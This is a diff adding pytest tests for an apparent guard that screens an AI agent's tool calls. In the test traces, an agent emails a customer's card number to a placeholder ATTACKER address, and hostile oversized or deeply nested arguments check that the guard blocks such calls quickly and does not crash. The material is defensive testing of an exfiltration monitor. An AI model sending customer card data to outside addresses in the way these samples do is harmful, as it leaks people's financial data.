@@ -304,3 +304,36 @@ def test_a_leak_recalled_from_the_weights_is_refused_by_its_invented_destination
     # the shipped default policy file says what no policy file means
     default = load_guard_config(Path(__file__).parents[3] / "configs" / "guard" / "default.yaml")
     assert default == GuardConfig()
+
+
+def _screened(arguments):
+    """The decision on one ``send_email`` call after a tool returned a customer's card."""
+    from backdoorlab.traces import Trace
+
+    head = (system(), user("Hi"), call("find_user", {"name": "J"}), result("find_user", customer()))
+    sent = call("send_email", {}, "c1")
+    sent["tool_calls"][0]["function"]["arguments"] = arguments
+    messages = Trace.model_validate(trace(*head, sent)).messages
+    return Guard().session().screen(messages, 4, messages[-1].tool_calls[0])
+
+
+def test_hostile_call_arguments_are_screened_quickly_and_never_crash(jsonl, tmp_path):
+    """Arguments nested past the parser's recursion were a RecursionError traceback from
+    `guard replay`; 40 kB of capitals took ~20 s (a backtracking regex), a destination
+    repeated 20 000 times in one call ~10 s (quadratic bookkeeping)."""
+    import time
+
+    deep = '{"to": "' + ATTACKER + '", "body": ' + "[" * 5000 + "]" * 5000 + "}"
+    out = tmp_path / "decisions.jsonl"
+    sent = call("send_email", {}, "c1")
+    sent["tool_calls"][0]["function"]["arguments"] = deep
+    path = jsonl(trace(user("hi"), sent))
+    cli = runner.invoke(app, ["guard", "replay", str(path), "-o", str(out)])
+    assert cli.exit_code == 0, cli.output
+    assert json.loads(out.read_text())["calls"] == 1
+    start = time.perf_counter()
+    capitals = _screened(json.dumps({"to": ATTACKER, "body": f"card {CARD} " + "A" * 40_000}))
+    repeated = _screened(json.dumps({f"to{i}": ATTACKER for i in range(20_000)} | {"body": CARD}))
+    assert time.perf_counter() - start < 3
+    assert capitals.blocked and repeated.blocked
+    assert repeated.destinations == [ATTACKER]
